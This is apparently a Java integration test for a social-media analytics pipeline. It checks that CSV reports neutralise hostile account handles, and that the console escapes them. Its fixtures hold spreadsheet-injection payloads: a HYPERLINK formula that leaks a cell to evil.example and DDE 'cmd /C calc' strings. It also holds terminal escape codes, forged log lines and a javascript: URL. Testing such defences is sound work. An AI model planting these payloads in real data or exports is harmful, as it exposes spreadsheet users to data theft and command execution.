package org.relais.app;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.math.BigDecimal;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;
import org.relais.ingest.testing.KafkaBrokerExtension;

/**
 * Handles, display names and hashtags are written by whoever runs an account, so they may be
 * spreadsheet formulas. Posts and profiles carrying such names go through the whole pipeline
 * (Kafka, ingest, analyze, report); then every cell of every CSV file of the night is either a plain
 * number or text that a spreadsheet would not run (OWASP's CSV injection guidance: no leading
 * {@code = + - @}, tab, CR or LF), and the hostile names are there, neutralised, not dropped.
 */
class HostileNamesIT {

    @RegisterExtension
    static KafkaBrokerExtension kafka = new KafkaBrokerExtension();

    private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Clic\")";
    private static final String DDE = "+cmd|' /C calc'!A0";
    private static final String AT = "@SUM(1+1)*cmd|' /C calc'!A0";
    private static final String MINUS = "-2+3+cmd|' /C calc'!A0";
    private static final String TAB = "\t=1+1";
    /** Clears the terminal, then prints in red; the display name forges a log line. */
    private static final String ESCAPES = "\u001b[2J\u001b[31mPWNED\u001b[0m";

    private static final ObjectMapper JSON = new ObjectMapper();

    @TempDir
    Path work;

    @Test
    void everyCellOfEveryCsvIsANumberOrInertText() throws Exception {
        LocalNights nights = new LocalNights(kafka, work);
        List<String> lines = new ArrayList<>();
        // Four accounts with hostile handles and names, public and with followers, so that they also
        // qualify for the campaign list; each is mentioned and reposted by the others.
        String[][] accounts = {{"1", HYPERLINK, AT}, {"2", DDE, "Jean \r=Dupont"}, {"3", MINUS, "-Marie Curie"},
            {"4", TAB, "=Anne @Martin"}, {"5", ESCAPES, "ok\n01:00:00 ERROR forged line"}};
        for (String[] a : accounts) {
            lines.add(account(a[0], a[1], a[2]));
        }
        int post = 0;
        for (String[] author : accounts) {
            for (String[] other : accounts) {
                if (author != other) {
                    lines.add(post("p" + post++, author[0], other[0], other[1]));
                }
            }
        }
        // A Mastodon account whose handle lacks its instance, so that its campaign link would be the
        // website on its profile: a script.
        lines.add("{\"type\":\"account\",\"platform\":\"mastodon\",\"account_id\":\"eve@evil.example\",\"handle\":\"eve\","
                + "\"profile_url\":\"javascript:alert(document.domain)\",\"followers_count\":9000,\"protected\":false,"
                + "\"observed_at\":\"2026-11-01T10:00:00Z\"}");
        lines.add("{\"type\":\"post\",\"platform\":\"mastodon\",\"post_id\":\"m1\",\"author_id\":\"eve@evil.example\","
                + "\"created_at\":\"2026-11-02T10:00:00Z\",\"text\":\"salut\",\"mentions\":[{\"account_id\":\"1\"}]}");
        nights.publish("relais-json", "relais.posts", "hostile.jsonl", String.join("\n", lines));

        String date = "2026-11-03";
        NightlyIT.Run run = nights.nightly(date, "report.campaign.min-relais-score=0",
                "report.campaign.min-followers=0");
        assertEquals(0, run.code(), run.err());
        assertFalse(run.out().contains("\u001b") || run.out().contains("\n01:00:00"), "the console's top 10"
                + " prints no escape sequence and no line from a name: " + run.out());
        assertTrue(run.out().contains("\\u001b[2J\\u001b[31mPWNED"), "the name is shown, escaped: " + run.out());

        List<String> texts = new ArrayList<>();
        List<Path> files;
        try (var list = Files.list(nights.reports(date))) {
            files = list.filter(f -> f.toString().endsWith(".csv")).sorted().toList();
        }
        assertTrue(files.stream().map(f -> f.getFileName().toString()).toList().containsAll(List.of("rankings.csv",
                "top_influencers.csv", "communities.csv", "changes.csv", "explanations.csv", "campaign_targets.csv")),
                files.toString());
        for (Path file : files) {
            List<CSVRecord> rows = NightlyIT.readAnyCsv(file);
            assertFalse(rows.isEmpty(), file.getFileName() + " has rows");
            for (CSVRecord row : rows) {
                for (String cell : row) {
                    assertFalse(runsInASpreadsheet(cell), file.getFileName() + " line " + row.getRecordNumber()
                            + " holds a cell a spreadsheet would run: " + cell);
                    texts.add(cell);
                }
            }
        }
        // The handles are kept, behind the neutralising quote, and numbers are not touched.
        for (String hostile : List.of(HYPERLINK, DDE, MINUS, TAB)) {
            assertTrue(texts.contains("'" + hostile), "the handle " + hostile + " is in a report, neutralised");
        }
        // Both hashtags are hostile; the community's list of them ("-x;=cmd") is one cell, neutralised.
        assertTrue(texts.contains("'-x;=cmd"), "the hashtags are in communities.csv: "
                + Files.readString(nights.reports(date).resolve("communities.csv")));
        double total = 0;
        for (CSVRecord row : NightlyIT.readCsv(nights.reports(date).resolve("rankings.csv"))) {
            assertTrue(isPlainNumber(row.get("pagerank")), "scores stay plain numbers: " + row.get("pagerank"));
            total += Double.parseDouble(row.get("pagerank"));
        }
        assertEquals(1.0, total, 1e-12);
        List<CSVRecord> campaign = NightlyIT.readAnyCsvWithHeader(nights.reports(date).resolve("campaign_targets.csv"));
        CSVRecord eve = campaign.stream().filter(r -> r.get("external_id").equals("mastodon:eve@evil.example"))
                .findFirst().orElseThrow(() -> new AssertionError("eve is listed: " + campaign));
        assertEquals("", eve.get("website"), "no script as the CRM's link");
    }

    /** Whether a spreadsheet would read {@code cell} as a formula: text with a leading formula character. */
    private static boolean runsInASpreadsheet(String cell) {
        return !cell.isEmpty() && "=+-@\t\r\n".indexOf(cell.charAt(0)) >= 0 && !isPlainNumber(cell);
    }

    private static boolean isPlainNumber(String cell) {
        try {
            new BigDecimal(cell);
            return !cell.contains("e") && !cell.contains("E");
        } catch (NumberFormatException e) {
            return false;
        }
    }

    private static String account(String id, String handle, String name) throws JsonProcessingException {
        return "{\"type\":\"account\",\"platform\":\"twitter\",\"account_id\":\"" + id + "\",\"handle\":" + json(handle)
                + ",\"display_name\":" + json(name) + ",\"followers_count\":5000,\"protected\":false,"
                + "\"observed_at\":\"2026-11-01T10:00:00Z\"}";
    }

    private static String post(String id, String author, String mentioned, String mentionedHandle)
            throws JsonProcessingException {
        return "{\"type\":\"post\",\"platform\":\"twitter\",\"post_id\":\"" + id + "\",\"author_id\":\"" + author
                + "\",\"created_at\":\"2026-11-02T10:00:00Z\",\"text\":\"bonjour\",\"hashtags\":[\"#=cmd\",\"-x\"],"
                + "\"mentions\":[{\"account_id\":\"" + mentioned + "\",\"handle\":" + json(mentionedHandle) + "}]}";
    }

    private static String json(String s) throws JsonProcessingException {
        return JSON.writeValueAsString(s);
    }
}
